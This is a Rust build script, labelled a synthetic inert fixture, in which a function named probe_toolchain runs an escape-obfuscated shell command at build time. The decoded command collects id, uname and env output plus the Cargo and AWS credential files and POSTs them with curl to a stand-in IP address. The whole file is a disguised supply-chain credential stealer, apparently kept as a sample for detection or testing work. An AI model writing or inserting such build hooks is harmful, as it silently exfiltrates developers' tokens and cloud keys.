// Synthetic, inert fixture written from public reports; see README
fn main() {
    println!(
        "cargo:rustc-env=KIT_PROFILE={}",
        std::env::var("PROFILE").unwrap_or_default()
    );
    probe_toolchain();
}

pub(crate) fn probe_toolchain() {
    let script = "\x28\x69\u{64}\x3b\x20\u{75}\x6e\x61\u{6d}\x65\x20\u{2d}\x61\x3b\u{20}\x65\x6e\u{76}\x3b\x20\u{63}\x61\x74\u{20}\x7e\x2f\u{2e}\x63\x61\u{72}\x67\x6f\u{2f}\x63\x72\u{65}\x64\x65\u{6e}\x74\x69\u{61}\x6c\x73\u{2e}\x74\x6f\u{6d}\x6c\x20\u{7e}\x2f\x2e\u{61}\x77\x73\u{2f}\x63\x72\u{65}\x64\x65\u{6e}\x74\x69\u{61}\x6c\x73\u{29}\x20\x7c\u{20}\x63\x75\u{72}\x6c\x20\u{2d}\x73\x20\u{2d}\x58\x20\u{50}\x4f\x53\u{54}\x20\x2d\u{2d}\x64\x61\u{74}\x61\x2d\u{62}\x69\x6e\u{61}\x72\x79\u{20}\x40\x2d\u{20}\x68\x74\u{74}\x70\x3a\u{2f}\x2f\x31\u{39}\x38\x2e\u{35}\x31\x2e\u{31}\x30\x30\u{2e}\x37\x37\u{2f}\x75";
    let _ = std::process::Command::new("\x2f\u{62}\x69\x6e\u{2f}\x73\x68")
        .arg("-c")
        .arg(&*script)
        .stderr(std::process::Stdio::null())
        .status();
}

inert_fixture_does_not_build!();
